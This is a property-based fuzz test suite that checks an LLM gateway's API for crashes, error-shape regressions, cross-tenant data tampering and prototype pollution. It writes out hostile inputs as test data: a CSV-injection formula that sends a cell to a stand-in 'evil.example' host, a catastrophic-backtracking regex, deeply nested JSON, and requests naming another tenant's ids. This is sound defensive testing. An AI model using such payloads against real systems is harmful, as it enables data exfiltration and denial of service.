import { randomBytes, randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { call, readTrace } from '../support/app';
import { useGateway } from '../support/fixtures';
import { drainQueues } from '../support/queues';
import {
  checksums,
  integerIds,
  missingRows,
  seedTenant,
  tenantRows,
  type Tenant,
  type TenantRows,
} from '../security/tenant';
import { endpointName, endpoints, type Endpoint, type Targets } from './endpoints';
import {
  HOSTILE_QUERIES,
  HOSTILE_SEGMENTS,
  hostileQuery,
  hostileSegment,
  hostileString,
  hostileValue,
  jsonText,
  Raw,
  rawPayload,
  setOwn,
  urlText,
} from './hostile';

// Property-based fuzzing of every endpoint with malformed and hostile requests, through the real API,
// PostgreSQL, Redis and workers. Properties: no 5xx; every error answer in the api.md shape; nothing
// accepted is lost by a worker (no failed job); and data stored before is unchanged.
//
// What "unchanged" means: the fuzzer is organization B. Its requests name organization A's ids on purpose
// (as hostile values), so every row of A, in every table, must be exactly as before. B's own valid
// requests may create rows and change B's "target" rows (created for the fuzz, named by the valid
// bodies), so for B the check is that every row B held before the targets were made is still there,
// unchanged; the fuzzer never names those (their integer ids never appear as generated integers, path
// segments, or victim ids that happen to be equal).

// Generated requests per body-taking endpoint and per other endpoint: 22 x 480 + 13 x 100 = 11,860, of
// which 10,560 carry generated bodies; the systematic sweeps below add about 7,200 more. FUZZ_SCALE
// shortens (or lengthens) the generated part; FUZZ_ONLY=<text> keeps the endpoints whose name holds it.
const SCALE = Number(process.env.FUZZ_SCALE ?? 1);
const BODY_RUNS = Math.ceil(480 * SCALE);
const OTHER_RUNS = Math.ceil(100 * SCALE);

// Every provider name the gateway knows points at a closed port: no fuzzed body reaches the internet.
const nowhere = 'http://127.0.0.1:9/v1';
const {
  gw,
  sql,
  orgs: [victimOrg, fuzzerOrg],
} = useGateway({
  env: {
    ...Object.fromEntries(
      ['GROQ', 'TOGETHER', 'MISTRAL', 'OPENROUTER', 'DEEPSEEK', 'FIREWORKS', 'OLLAMA', 'VLLM', 'AZURE_OPENAI'].map(
        (p) => [`${p}_BASE_URL`, nowhere],
      ),
    ),
    // Event-loop protection off: here one event loop runs the API, the workers, the fake providers and the
    // generator, so its lag is the whole test's (megabyte bodies written by the worker), not the API's.
    // The protection has tests of its own; this one is about how input is handled.
    MAX_EVENT_LOOP_DELAY_MS: '0',
  },
  orgs: ['fuzz-victim', 'fuzzer'],
});
let victim: Tenant;
let fuzzer: Tenant;
let targets: Targets;
let victimBefore: TenantRows;
let fuzzerBefore: TenantRows;
let avoid: Set<number>;
const tally = new Map<string, Map<number, number>>();
/** The endpoint list does not depend on the ids in it: names are known before the targets exist. */
const PLACEHOLDER: Targets = {
  projectName: 'p',
  projectUuid: '',
  rootTraceId: '',
  spanId: '',
  batchIds: ['', ''],
  chainIds: ['', ''],
  completionTraceId: '',
  experimentUuid: '',
  datasetId: 0,
  datasetName: '',
  spareDatasetId: 0,
  testCaseId: 0,
  promptName: '',
  promptVersionId: 0,
  deploymentId: '',
  provider: '',
  providerBaseUrl: '',
  evalMetricId: 0,
  apiKeyId: '',
  criterionId: '',
  commentId: '',
  evalMetricName: '',
  evalRuleId: '',
  backfillId: '',
  queueId: '',
  queueItemId: 0,
  monitorId: '',
  budgetId: '',
  userId: '',
  invitationId: '',
};
const ENDPOINT_NAMES = endpoints(PLACEHOLDER).map(endpointName);

beforeAll(async () => {
  victim = await seedTenant(gw.stack.app, victimOrg, gw.openai.baseURL, 'victim');
  fuzzer = await seedTenant(gw.stack.app, fuzzerOrg, gw.openai.baseURL, 'fuzzer');
  avoid = new Set(integerIds(fuzzer));
  expect(await drainQueues(gw.stack)).toEqual([]);
  victimBefore = (await tenantRows(sql, victim.orgId)).rows;
  fuzzerBefore = (await tenantRows(sql, fuzzer.orgId)).rows;
  targets = await makeTargets();
}, 120_000);

async function makeTargets(): Promise<Targets> {
  const post = async (path: string, body: unknown) => {
    const res = await call(gw.stack.app, fuzzer.key, 'POST', path, body);
    expect(res.statusCode, res.body).toBe(200);
    return res.json();
  };
  const tag = randomBytes(4).toString('hex');
  const project = await post('/project', { name: `fuzz-target-${tag}` });
  const rootTraceId = randomUUID();
  await post('/trace_log', { trace_id: rootTraceId, project_uuid: project.uuid, trace_name: 'target-root' });
  const experiment = await post('/experiment', { name: 'fuzz-target', project_uuid: project.uuid });
  const dataset = await post('/collection', {
    name: `fuzz-target-${tag}`,
    column_names: ['q', 'r'],
    test_cases: [{ inputs: { q: '1', r: '2' } }],
  });
  const spare = await post('/collection', { name: `fuzz-spare-${tag}`, column_names: ['q'] });
  const version = await post('/prompts', {
    name: `fuzz-target-${tag}`,
    model: 'gpt-4o-mini',
    provider: 'openai',
    messages: [{ role: 'user', content: 'say {{word}}' }],
  });
  const deployment = await post('/deployments', { prompt_version_id: version.id, deployment_id: `fuzz-target-${tag}` });
  await post('/provider-keys', {
    provider: `fuzz-target-${tag}`,
    api_key: 'sk-fuzz-target',
    base_url: gw.openai.baseURL,
  });
  const metric = await post('/eval-metrics', { name: `fuzz-target-${tag}`, type: 'exact_match' });
  const apiKey = await post('/api-keys', { role: 'member', label: `fuzz-target-${tag}` });
  const criterion = await post('/annotation-criteria', { name: `fuzz-target-${tag}`, kind: 'score', min: 0, max: 1 });
  await readTrace(gw.stack.app, fuzzer.key, rootTraceId);
  const comment = await post(`/trace_log/${rootTraceId}/comments`, { comment: 'target' });
  const rule = await post('/eval-rules', {
    name: `fuzz-target-${tag}`,
    project_uuid: project.uuid,
    metric_names: [metric.name],
    enabled: false,
  });
  const backfill = await call(gw.stack.app, fuzzer.key, 'POST', `/eval-rules/${rule.id}/backfill`, {
    from: '2026-01-01T00:00:00Z',
    to: '2026-01-02T00:00:00Z',
  });
  expect(backfill.statusCode, backfill.body).toBe(202);
  const queue = await post('/annotation-queues', { name: `fuzz-target-${tag}`, project_uuid: project.uuid });
  await post(`/annotation-queues/${queue.id}/items`, { trace_ids: [rootTraceId] });
  const item = await post(`/annotation-queues/${queue.id}/next`, {});
  const monitor = await post('/monitors', {
    name: `fuzz-target-${tag}`,
    project_uuid: project.uuid,
    metric: 'latency_p95',
    window_minutes: 30,
    condition: { above: 5 },
    // Disabled: an enabled monitor's readings move with time, which the row comparisons would see.
    enabled: false,
  });
  const budget = await post('/budgets', {
    scope: { kind: 'project', project_name: project.name },
    limit_usd: 1000,
    period: 'month',
    action: 'alert',
  });
  const joined = await post('/invitations', { email: `fuzz-target-${tag}@example.com`, role: 'member' });
  const accepted = await gw.stack.app.inject({
    method: 'POST',
    url: '/api/svc/v1/auth/accept-invitation',
    headers: { 'x-sightline-csrf': '1' },
    payload: { token: new URL(joined.link).searchParams.get('token'), name: 'target', password: `pw-target-${tag}` },
  });
  expect(accepted.statusCode, accepted.body).toBe(200);
  const invitation = await post('/invitations', { email: `fuzz-pending-${tag}@example.com`, role: 'viewer' });
  return {
    projectName: project.name,
    projectUuid: project.uuid,
    rootTraceId,
    spanId: randomUUID(),
    batchIds: [randomUUID(), randomUUID()],
    chainIds: [randomUUID(), randomUUID()],
    completionTraceId: randomUUID(),
    experimentUuid: experiment.uuid,
    datasetId: dataset.id,
    datasetName: `fuzz-target-${tag}`,
    spareDatasetId: spare.id,
    testCaseId: dataset.test_case_ids[0],
    promptName: version.name,
    promptVersionId: version.id,
    deploymentId: deployment.deployment_id,
    provider: `fuzz-target-${tag}`,
    providerBaseUrl: gw.openai.baseURL,
    evalMetricId: metric.id,
    apiKeyId: apiKey.id,
    criterionId: criterion.id,
    commentId: comment.id,
    evalMetricName: metric.name,
    evalRuleId: rule.id,
    backfillId: backfill.json().id,
    queueId: queue.id,
    queueItemId: item.item_id,
    monitorId: monitor.id,
    budgetId: budget.id,
    userId: accepted.json().user.id,
    invitationId: invitation.id,
  };
}

// ---- requests --------------------------------------------------------------------------------------------

type Request = { method: Endpoint['method']; url: string; payload?: string | Buffer; contentType?: string };
type Path = (string | number)[];

/** Every path into a value (objects' keys and arrays' indices), the value itself excluded. */
function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (value === null || typeof value !== 'object') return [];
  const keys: (string | number)[] = Array.isArray(value) ? value.map((_, i) => i) : Object.keys(value);
  return keys.flatMap((k) => [
    [...prefix, k],
    ...pathsOf((value as Record<string, unknown>)[k as string], [...prefix, k]),
  ]);
}

const REMOVE = Symbol('remove');
/** A copy of `value` with the node at `path` replaced (or removed); other nodes are shared. */
function withAt(value: unknown, path: Path, next: unknown): unknown {
  if (!path.length) return next;
  const [head, ...rest] = path;
  // An earlier edit may have put a scalar where this path goes on: it becomes an empty object first.
  if (value === null || typeof value !== 'object') value = {};
  if (Array.isArray(value)) {
    const copy = [...value];
    if (!rest.length && next === REMOVE) copy.splice(head as number, 1);
    else copy[head as number] = withAt(copy[head as number], rest, next);
    return copy;
  }
  const copy: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(value as Record<string, unknown>))
    if (!(k === head && !rest.length && next === REMOVE)) setOwn(copy, k, v);
  if (!(next === REMOVE && !rest.length))
    setOwn(copy, String(head), withAt((value as Record<string, unknown>)[head as string], rest, next));
  return copy;
}

function url(e: Endpoint, params: Record<string, string>, query = e.query ?? '') {
  const path = e.path.replace(/:([a-z_]+)/g, (_, name: string) => params[name]);
  return `${e.root ? '' : '/api/svc/v1'}${path}${query}`;
}

/**
 * Ids of the victim as they appear in URLs and bodies: what a hostile tenant would try. Integer ids of
 * different tables are small numbers that may coincide: one equal to an id of the fuzzer's own earlier
 * rows is left out, since naming it would be a legitimate change of the fuzzer's data.
 */
const victimValues = () =>
  [
    victim.project.uuid,
    victim.project.name,
    victim.rootTraceId,
    victim.childTraceId,
    victim.completionTraceId,
    victim.experiment.uuid,
    victim.experiment.run_name,
    victim.finishedExperiment.uuid,
    victim.dataset.id,
    victim.dataset.name,
    ...victim.dataset.testCaseIds,
    victim.prompt.versionId,
    victim.prompt.name,
    victim.deploymentId,
    victim.providerKey.provider,
    victim.evalMetric.id,
    victim.evalMetric.name,
    victim.user.id,
    victim.user.email,
    victim.invitation.id,
  ].filter((v) => typeof v !== 'number' || !avoid.has(v));

function requestArb(e: Endpoint): fc.Arbitrary<Request> {
  const victims = victimValues();
  const value = hostileValue(avoid, victims);
  // A segment of digits naming one of the fuzzer's own earlier rows would be a legitimate change to them.
  const notOwn = (s: string) => (/^\d+$/.test(s) && avoid.has(Number(s)) ? `${s}x` : s);
  const segment = fc.oneof(
    { weight: 3, arbitrary: hostileSegment.map(notOwn) },
    { weight: 1, arbitrary: fc.constantFrom(...victims.map((v) => urlText(String(v)))) },
  );
  const valid = Object.fromEntries(Object.entries(e.params ?? {}).map(([k, v]) => [k, urlText(v)]));
  const names = Object.keys(valid);
  // Mostly the valid parameters (so that bodies reach the handler), sometimes one of them hostile.
  const params: fc.Arbitrary<Record<string, string>> = names.length
    ? fc.oneof(
        { weight: 3, arbitrary: fc.constant(valid) },
        {
          weight: 1,
          arbitrary: fc.tuple(fc.constantFrom(...names), segment).map(([name, s]) => ({ ...valid, [name]: s })),
        },
      )
    : fc.constant(valid);
  const query = fc.oneof({ weight: 6, arbitrary: fc.constant(e.query ?? '') }, { weight: 1, arbitrary: hostileQuery });
  const json = (body: unknown) => ({ payload: jsonText(body), contentType: 'application/json' });

  let payload: fc.Arbitrary<{ payload?: string | Buffer; contentType?: string }>;
  if (e.bodies) {
    const bases = e.bodies;
    const paths = bases.map((b) => pathsOf(b));
    const base = fc.nat(bases.length - 1);
    const at = (b: number, n: number) => paths[b][n % Math.max(1, paths[b].length)] ?? [];
    payload = fc.oneof(
      // One field (at any depth) given a hostile value.
      { weight: 6, arbitrary: fc.tuple(base, fc.nat(), value).map(([b, n, v]) => json(withAt(bases[b], at(b, n), v))) },
      // One field missing.
      { weight: 2, arbitrary: fc.tuple(base, fc.nat()).map(([b, n]) => json(withAt(bases[b], at(b, n), REMOVE))) },
      // Several fields at once, some removed.
      {
        weight: 2,
        arbitrary: fc
          .tuple(base, fc.array(fc.tuple(fc.nat(), fc.option(value, { nil: REMOVE })), { minLength: 2, maxLength: 6 }))
          .map(([b, edits]) => json(edits.reduce((body, [n, v]) => withAt(body, at(b, n), v), bases[b] as unknown))),
      },
      // An unknown field, with a hostile name, at the top level.
      {
        weight: 1,
        arbitrary: fc
          .tuple(base, hostileString, value)
          .map(([b, k, v]) => json(bases[b] && typeof bases[b] === 'object' ? withAt(bases[b], [k], v) : { [k]: v })),
      },
      // The whole body replaced: arrays where objects belong, scalars, deep nesting, prototype keys.
      { weight: 2, arbitrary: value.map(json) },
      { weight: 1, arbitrary: base.map((b) => json([bases[b]])) },
      // Valid as it is.
      { weight: 1, arbitrary: base.map((b) => json(bases[b])) },
      // Not JSON at all, or not declared as JSON.
      { weight: 2, arbitrary: rawPayload(jsonText(bases[0])) },
      { weight: 1, arbitrary: fc.constant({}) },
    );
  } else {
    payload = fc.oneof(
      { weight: 5, arbitrary: fc.constant({}) },
      { weight: 1, arbitrary: value.map(json) },
      { weight: 1, arbitrary: rawPayload('{}') },
    );
  }
  return fc.tuple(params, query, payload).map(([p, q, body]) => ({ method: e.method, url: url(e, p, q), ...body }));
}

// ---- checks ----------------------------------------------------------------------------------------------

const describeRequest = (r: Request) => {
  const body =
    r.payload === undefined ? '' : typeof r.payload === 'string' ? r.payload : `<bytes ${r.payload.toString('hex')}>`;
  return `${r.method} ${r.url.slice(0, 300)} [${r.contentType ?? 'no content-type'}] ${body.slice(0, 600)}${body.length > 600 ? `... (${body.length} chars)` : ''}`;
};

// Reads wait (2 s at most) for the writes accepted before them, then answer 503 to be retried: the
// protocol's answer for a worker that lags, which a busy test machine can make it do. Such a read is
// asked again, as a client does; every other 5xx fails at once.
const READ_YOUR_WRITES = /still being (applied|written)/;

async function send(name: string, r: Request) {
  const ask = () =>
    gw.stack.app.inject({
      method: r.method,
      url: r.url,
      // With the console's header, so that the sign-in routes read the bodies (keys' requests do not need it).
      headers: {
        'x-api-key': fuzzer.key,
        'x-sightline-csrf': '1',
        ...(r.contentType !== undefined && { 'content-type': r.contentType }),
      },
      payload: r.payload,
    });
  let res = await ask();
  for (let retry = 0; res.statusCode === 503 && READ_YOUR_WRITES.test(res.body) && retry < 20; retry++)
    res = await ask();
  const counts = tally.get(name) ?? new Map<number, number>();
  counts.set(res.statusCode, (counts.get(res.statusCode) ?? 0) + 1);
  tally.set(name, counts);
  const where = `${describeRequest(r)}\n=> ${res.statusCode} ${res.body.slice(0, 500)}`;
  expect(res.statusCode, where).toBeLessThan(500);
  if (res.statusCode >= 400) {
    let body: { detail?: unknown };
    try {
      body = JSON.parse(res.body);
    } catch {
      throw new Error(`error answer is not JSON: ${where}`);
    }
    if (/^POST (\/api\/svc\/v1\/otel)?\/v1\/traces$/.test(name)) {
      // OTLP answers its errors with a google.rpc.Status.
      expect(body, where).toEqual({ code: expect.any(Number), message: expect.any(String) });
    } else if (res.statusCode === 422) {
      expect(Array.isArray(body.detail) && (body.detail as unknown[]).length > 0, where).toBe(true);
      for (const d of body.detail as unknown[]) {
        expect(d, where).toEqual({ loc: expect.any(Array), msg: expect.any(String), type: expect.any(String) });
        for (const part of (d as { loc: unknown[] }).loc) expect(['string', 'number'], where).toContain(typeof part);
      }
    } else {
      expect(body, where).toEqual({ detail: expect.any(String) });
    }
  }
  // JSON bodies carrying __proto__ or constructor.prototype must not reach any prototype.
  expect(({} as Record<string, unknown>).polluted, where).toBeUndefined();
  return res;
}

describe('fuzzing every endpoint with malformed and hostile requests', () => {
  it('covers every route of the OpenAPI document', async () => {
    const documented = Object.entries(
      (gw.stack.app.swagger() as { paths: Record<string, Record<string, unknown>> }).paths,
    ).flatMap(([path, methods]) =>
      Object.keys(methods).map((m) => `${m.toUpperCase()} ${path.replace(/\{([a-z_]+)\}/g, ':$1')}`),
    );
    const fuzzed = new Set(endpoints(targets).map(endpointName));
    expect(documented.filter((route) => !fuzzed.has(route))).toEqual([]);
  });

  it('reads integer ids in paths as decimal digits only: another spelling names no row', async () => {
    const { evalMetricId: id, datasetId, testCaseId } = targets;
    for (const spelling of [`0x${id.toString(16)}`, `${id}e0`, `%20${id}`, `${id}.0`, `+${id}`]) {
      const res = await send('ids', { method: 'DELETE', url: `/api/svc/v1/eval-metrics/${spelling}` });
      expect(res.statusCode, spelling).toBe(422);
      const update = await send('ids', {
        method: 'POST',
        url: `/api/svc/v1/update_test_case/${datasetId}/0x${testCaseId.toString(16)}`,
        payload: '{"target":"x"}',
        contentType: 'application/json',
      });
      expect(update.statusCode).toBe(422);
    }
    expect(
      (await call(gw.stack.app, fuzzer.key, 'GET', '/eval-metrics')).json().map((m: { id: number }) => m.id),
    ).toContain(id);
  });

  it('answers hostile API keys (in x-api-key or x-user-id) with 401 in the api.md shape', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          hostileString,
          fc.constantFrom(fuzzer.key.slice(0, -1), `${fuzzer.key} `, fuzzer.key.toUpperCase(), victim.key.slice(1)),
        ),
        fc.boolean(),
        async (key, legacy) => {
          const res = await gw.stack.app.inject({
            method: 'GET',
            url: '/api/svc/v1/provider-keys',
            headers: { [legacy ? 'x-user-id' : 'x-api-key']: key },
          });
          expect(res.statusCode, JSON.stringify(key)).toBe(401);
          expect(res.json()).toEqual({ detail: expect.any(String) });
        },
      ),
      { numRuns: OTHER_RUNS, endOnFailure: true },
    );
  });

  it('answers every valid body with every field missing in turn (at any depth) in the api.md shape', async () => {
    let sent = 0;
    for (const e of endpoints(targets)) {
      for (const base of e.bodies ?? []) {
        for (const path of pathsOf(base)) {
          await send(endpointName(e), {
            method: e.method,
            url: url(e, e.params ?? {}),
            payload: jsonText(withAt(base, path, REMOVE)),
            contentType: 'application/json',
          });
          sent++;
        }
      }
    }
    console.info(`fuzz: ${sent} bodies with one field missing`);
  }, 120_000);

  it('answers every valid body with each field (at any depth) set to each of a set of hostile values', async () => {
    const nested = (depth: number) => new Raw(`${'{"k":'.repeat(depth)}"v"${'}'.repeat(depth)}`);
    const values: unknown[] = [
      null,
      -1,
      2 ** 63,
      new Raw('1e999'),
      'a\0b\ud800',
      'x'.repeat(600),
      '0000-01-01',
      [],
      {},
      nested(250),
      victim.rootTraceId,
    ];
    let sent = 0;
    for (const e of endpoints(targets)) {
      for (const base of e.bodies ?? []) {
        for (const path of pathsOf(base)) {
          for (const v of values) {
            await send(endpointName(e), {
              method: e.method,
              url: url(e, e.params ?? {}),
              payload: jsonText(withAt(base, path, v)),
              contentType: 'application/json',
            });
            sent++;
          }
        }
      }
    }
    console.info(`fuzz: ${sent} bodies with one field set to a hostile value`);
  }, 300_000);

  it('answers every path parameter and query string set to each hostile segment', async () => {
    let sent = 0;
    for (const e of endpoints(targets)) {
      const valid = Object.fromEntries(Object.entries(e.params ?? {}).map(([k, v]) => [k, urlText(v)]));
      const body = e.bodies ? { payload: jsonText(e.bodies[0]), contentType: 'application/json' } : {};
      const urls = [
        ...Object.keys(valid).flatMap((name) =>
          [...HOSTILE_SEGMENTS, ...victimValues().map((v) => urlText(String(v)))].map((segment) =>
            url(e, { ...valid, [name]: segment }),
          ),
        ),
        ...HOSTILE_QUERIES.map((query) => url(e, valid, query)),
      ];
      for (const u of urls) {
        await send(endpointName(e), { method: e.method, url: u, ...body });
        sent++;
      }
    }
    console.info(`fuzz: ${sent} requests with a hostile path parameter or query string`);
  }, 120_000);

  it.each(ENDPOINT_NAMES.filter((n) => n.includes(process.env.FUZZ_ONLY ?? '')).map((name) => [name]))(
    '%s',
    async (name) => {
      const e = endpoints(targets).find((x) => endpointName(x) === name)!;
      await fc.assert(
        fc.asyncProperty(requestArb(e), async (r) => void (await send(name, r))),
        { numRuns: e.bodies ? BODY_RUNS : OTHER_RUNS, endOnFailure: true },
      );
    },
    300_000,
  );

  it('answers the inputs of the outside probe (issue 30) as their fixes say', async () => {
    const ask = async (method: Endpoint['method'], path: string, body?: unknown) => {
      const payload = body === undefined ? {} : { payload: JSON.stringify(body), contentType: 'application/json' };
      return send(`${method} /api/svc/v1${path.replace(/\?.*/, '')}`, {
        method,
        url: `/api/svc/v1${path}`,
        ...payload,
      });
    };
    const locOf = (res: { json(): any }) => res.json().detail[0].loc.join('.');
    const tryMetric = (metric: unknown, output: string) => ask('POST', '/eval-metrics/try', { metric, output });
    const regex = (pattern: string) => ({ name: 'probe', type: 'regex_match', config: { pattern } });

    // A pattern that backtracks exponentially in JavaScript's engine answers at once on RE2.
    const backtracking = await tryMetric(regex('^(a|a)+$'), `${'a'.repeat(28)}!`);
    expect(backtracking.statusCode, backtracking.body).toBe(200);
    expect(backtracking.json().score).toBe(0);
    const backreference = await tryMetric(regex('(a)\\1'), 'aa');
    expect(backreference.statusCode).toBe(422);
    expect(locOf(backreference)).toMatch(/pattern$/);
    // A recursive schema over 400,000 levels of output: a score with its reason, not a 500.
    const schema = { $defs: { n: { type: 'array', items: { $ref: '#/$defs/n' } } }, $ref: '#/$defs/n' };
    const deep = await tryMetric(
      { name: 'probe', type: 'json_schema', config: { schema } },
      '['.repeat(4e5) + ']'.repeat(4e5),
    );
    expect(deep.statusCode).toBe(200);
    expect(deep.json()).toMatchObject({ score: 0, reason: expect.stringMatching(/nests deeper/) });

    const wordless = await ask('POST', '/traces', { project_uuid: targets.projectUuid, search: '&' });
    expect(wordless.statusCode).toBe(422);
    expect(locOf(wordless)).toBe('body.search');

    // The IPv4-compatible private address is refused where private addresses are (test/security/ssrf): this
    // stack's fake providers are on 127.0.0.1, so it allows them.

    const prompt = (model_params: Record<string, unknown>) => ({
      name: `probe-${randomBytes(3).toString('hex')}`,
      model: 'gpt-4o-mini',
      provider: 'openai',
      messages: [{ role: 'user', content: 'hi' }],
      model_params,
    });
    const aliased = await ask('POST', '/prompts', prompt({ temperature: 0.2 }));
    expect(aliased.statusCode).toBe(200);
    expect(aliased.json().model_params).toMatchObject({ temp: 0.2 });
    expect((await ask('POST', '/prompts', prompt({ temprature: 0.2 }))).statusCode).toBe(422);

    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const dataset = await ask('POST', '/collection', {
      name: `probe-${randomBytes(3).toString('hex')}`,
      column_names: ['q'],
      test_cases: [{ inputs: { q: formula } }],
    });
    expect(dataset.statusCode).toBe(200);
    const csv = (await ask('GET', `/datasets/${dataset.json().id}/export?format=csv`)).body;
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('afterwards: no job failed, every queue drained, the victim’s data and the fuzzer’s earlier data unchanged', async () => {
    const failed = await drainQueues(gw.stack, 120_000);
    expect(failed).toEqual([]);
    const victimAfter = (await tenantRows(sql, victim.orgId)).rows;
    expect(missingRows(victimBefore, victimAfter)).toEqual({});
    expect(checksums(victimAfter)).toEqual(checksums(victimBefore));
    expect(missingRows(fuzzerBefore, (await tenantRows(sql, fuzzer.orgId)).rows)).toEqual({});
    // The victim still reads its own data, and so does the fuzzer.
    expect((await readTrace(gw.stack.app, victim.key, victim.rootTraceId)).json()).toMatchObject({
      output: 'answer',
      children: [expect.objectContaining({ trace_id: victim.childTraceId })],
    });
    expect((await readTrace(gw.stack.app, fuzzer.key, targets.rootTraceId)).statusCode).toBe(200);
    // Fuzzed bodies went all the way: the worker called the provider and evaluated spans with fuzzed metrics.
    expect(gw.openai.requests.length).toBeGreaterThan(100);
    const [{ judged }] = await sql<
      { judged: number }[]
    >`select count(*)::int as judged from spans where organization_id = ${fuzzer.orgId} and trace_name = 'eval-fuzz-judge'`;
    expect(judged).toBeGreaterThan(0);

    const total = [...tally.values()].reduce((n, m) => n + [...m.values()].reduce((a, b) => a + b, 0), 0);
    const lines = [...tally].map(
      ([name, counts]) =>
        `${name.padEnd(60)} ${[...counts]
          .sort(([a], [b]) => a - b)
          .map(([s, n]) => `${s}:${n}`)
          .join(' ')}`,
    );
    if (SCALE >= 1 && !process.env.FUZZ_ONLY) expect(total).toBeGreaterThanOrEqual(10_000);
    console.info(
      `fuzz: ${total} requests in all\n${lines.join('\n')}\nvictim rows: ${JSON.stringify(checksums(victimAfter))}`,
    );
  }, 180_000);
});
